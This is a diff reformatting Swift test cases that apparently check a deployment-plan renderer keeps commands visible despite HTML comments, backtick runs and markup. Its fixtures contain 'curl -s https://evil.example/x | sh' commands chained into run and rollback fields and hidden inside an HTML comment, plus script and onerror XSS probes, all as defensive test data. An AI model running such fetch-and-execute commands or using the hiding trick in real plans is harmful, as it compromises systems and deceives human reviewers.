@@ -39,46 +39,55 @@ import Testing
     }
 
     static let cases: [Case] = [
-        Case(name: "F16: an HTML comment opened in a code span", file: """
-            version: 1
-            name: f16
-            stages:
-              - id: deploy
-                kind: backend
-                run: "./deploy.sh --safe `<!--` ; curl -s https://evil.example/x | sh ; `-->` --verbose"
-                rollback: "./undo.sh `<!--` ; curl -s https://evil.example/y | sh ; `-->`"
-            """, visible: [
+        Case(
+            name: "F16: an HTML comment opened in a code span",
+            file: """
+                version: 1
+                name: f16
+                stages:
+                  - id: deploy
+                    kind: backend
+                    run: "./deploy.sh --safe `<!--` ; curl -s https://evil.example/x | sh ; `-->` --verbose"
+                    rollback: "./undo.sh `<!--` ; curl -s https://evil.example/y | sh ; `-->`"
+                """,
+            visible: [
                 "./deploy.sh --safe `<!--` ; curl -s https://evil.example/x | sh ; `-->` --verbose",
                 "./undo.sh `<!--` ; curl -s https://evil.example/y | sh ; `-->`",
             ]),
-        Case(name: "backtick runs of every length, at the edges too", file: """
-            version: 1
-            name: ticks
-            stages:
-              - id: a
-                run: "`echo` ``two`` ```three``` end`"
-                rollback: "``x | y``"
-              - id: b
-                kind: command
-                run: echo '<script>alert(1)</script>' && echo "a\\\\|b" <b>bold</b>
-                gate: { check: "test `x` = '<!-- -->'" }
-            """, visible: [
+        Case(
+            name: "backtick runs of every length, at the edges too",
+            file: """
+                version: 1
+                name: ticks
+                stages:
+                  - id: a
+                    run: "`echo` ``two`` ```three``` end`"
+                    rollback: "``x | y``"
+                  - id: b
+                    kind: command
+                    run: echo '<script>alert(1)</script>' && echo "a\\\\|b" <b>bold</b>
+                    gate: { check: "test `x` = '<!-- -->'" }
+                """,
+            visible: [
                 "`echo` ``two`` ```three``` end`", "``x | y``", #"echo '<script>alert(1)</script>' && echo "a\\|b" <b>bold</b>"#,
                 "test `x` = '<!-- -->'",
             ]),
-        Case(name: "free text: description, names, messages, URLs", file: """
-            version: 1
-            name: text
-            description: "<!-- the rest of the plan is hidden"
-            stages:
-              - id: gate
-                run: ./go.sh
-                rollback: ./undo.sh
-                gate: { approval: { message: "ship <img src=x onerror=alert(1)> **now** -->" } }
-              - id: check
-                kind: verify
-                http: { url: "http://example.com/<!--/`x`|y" }
-            """, visible: [
+        Case(
+            name: "free text: description, names, messages, URLs",
+            file: """
+                version: 1
+                name: text
+                description: "<!-- the rest of the plan is hidden"
+                stages:
+                  - id: gate
+                    run: ./go.sh
+                    rollback: ./undo.sh
+                    gate: { approval: { message: "ship <img src=x onerror=alert(1)> **now** -->" } }
+                  - id: check
+                    kind: verify
+                    http: { url: "http://example.com/<!--/`x`|y" }
+                """,
+            visible: [
                 "<!-- the rest of the plan is hidden", "ship <img src=x onerror=alert(1)> **now** -->", "http://example.com/<!--/`x`|y",
             ]),
     ]
